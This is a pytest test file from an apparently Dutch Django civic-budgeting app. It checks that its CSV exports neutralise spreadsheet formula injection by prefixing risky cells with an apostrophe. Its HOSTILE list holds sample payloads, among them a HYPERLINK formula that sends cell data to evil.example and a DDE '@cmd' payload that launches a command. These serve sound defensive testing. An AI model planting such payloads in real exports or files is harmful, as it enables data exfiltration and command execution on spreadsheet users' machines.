"""CSV formula injection (issue 7, C10): every export writes through ``core.csvexport``, which
puts a ``'`` before text that a spreadsheet would run as a formula, and leaves numbers alone."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from tests import factories
from wijkaanpak.budgets import services as budget_services
from wijkaanpak.budgets.models import Phase
from wijkaanpak.core.csvexport import safe_cell
from wijkaanpak.mkba import selectors as mkba_selectors
from wijkaanpak.mkba import services as mkba_services
from wijkaanpak.mkba.models import FlowKind
from wijkaanpak.monitor import selectors as monitor_selectors

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"klik")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-12, -12.5, Decimal("-30.00"), "-30.00", "+31", "-1,5", "-1.234,50", "1e5", "Bankje"]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def cells(text: str, delimiter: str = ";") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(text: str, titles: list[str], delimiter: str = ";") -> None:
    found = cells(text, delimiter)
    for title in titles:
        assert title not in found, title  # never a cell that starts with the raw formula
        assert "'" + title in found, title


@pytest.fixture
def published(district, manager):
    process = factories.BudgetProcessFactory(area=district, voting=True, budget=Decimal("10000"))
    for title in HOSTILE[:4]:
        factories.BudgetIdeaFactory(
            process=process, accepted=True, title=title, estimated_cost=Decimal("100")
        )
    process = budget_services.process_set_phase(process=process, by=manager, phase=Phase.COUNTING)
    return budget_services.process_set_phase(process=process, by=manager, phase=Phase.RESULTS)


def test_results_csv_page_and_api(client, published):
    page = client.get(reverse("budgets:results_csv", args=[published.pk]))
    assert page.status_code == 200
    assert_neutralised(page.content.decode(), HOSTILE[:4])
    api = APIClient().get(f"/api/v1/budgets/{published.pk}/results.csv")
    assert api.status_code == 200
    assert_neutralised(api.content.decode(), HOSTILE[:4])


def test_initiatives_csv(client, district):
    for title in HOSTILE[:4]:
        factories.InitiativeFactory(area=district, title=title)
    response = client.get("/initiatieven.csv")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), HOSTILE[:4], delimiter=",")


def test_neighbourhood_budget_csv_page_and_api(client, district, goal):
    project = factories.ProjectFactory(district=district, goals=[goal], title="Project")
    funder = factories.OrganisationFactory(name="=cmd()")
    factories.BudgetLineFactory(project=project, funder=funder, amount=Decimal("500.00"))
    page = client.get(reverse("funding:neighbourhood_budget_csv", args=[district.code]))
    api = APIClient().get(f"/api/v1/districts/{district.code}/money.csv")
    for response in (page, api):
        assert response.status_code == 200, response
        text = response.content.decode()
        assert_neutralised(text, ["=cmd()"])
        assert "500.00" in cells(text)  # amounts stay numbers


def test_monitor_csvs(client, plan):
    indicator = factories.IndicatorFactory(code="x_bom", name_nl="@SUM(A1:A9)")
    factories.GoalFactory(plan=plan, title="=1+1", indicator=indicator)
    api = APIClient().get(reverse("v1:indicator-csv"))
    assert api.status_code == 200
    assert_neutralised(api.content.decode(), ["@SUM(A1:A9)"])
    for response in (
        client.get(reverse("monitor:plan_progress_csv", args=[plan.pk])),
        APIClient().get(reverse("v1:plan-progress-csv", args=[plan.pk])),
    ):
        assert response.status_code == 200
        assert_neutralised(response.content.decode(), ["=1+1"])
    text = monitor_selectors._csv(["code", "waarde"], [["x", -3.5], ["y", Decimal("-2")]])
    assert cells(text)[-3:] == ["-3.5", "y", "-2"]  # negative numbers stay numbers


def test_mkba_csvs(project, manager):
    analysis = mkba_services.analysis_create(
        by=manager, project=project, title="Analyse", base_year=2024, horizon=3
    )
    mkba_services.flow_create(
        analysis=analysis,
        by=manager,
        stakeholder="=evil()",
        year=2024,
        kind=FlowKind.COST,
        amount=Decimal("1000"),
        description="-2+3",
    )
    assert_neutralised(mkba_selectors.flows_csv(analysis), ["=evil()", "-2+3"])
    results = mkba_selectors.results_csv(mkba_selectors.report(analysis))
    assert_neutralised(results, ["=evil()"])
    assert "-1000.00" in cells(results)  # the (negative) saldo stays a number


def test_letters_csv(district, manager):
    process = factories.BudgetProcessFactory(area=district)
    text = 'address\n=HYPERLINK("x")\n+Bob 2\n'
    run = budget_services.codes_generate(process=process, by=manager, csv_text=text, per="address")
    assert_neutralised(run.csv_text(), ['=HYPERLINK("x")', "+Bob 2"])
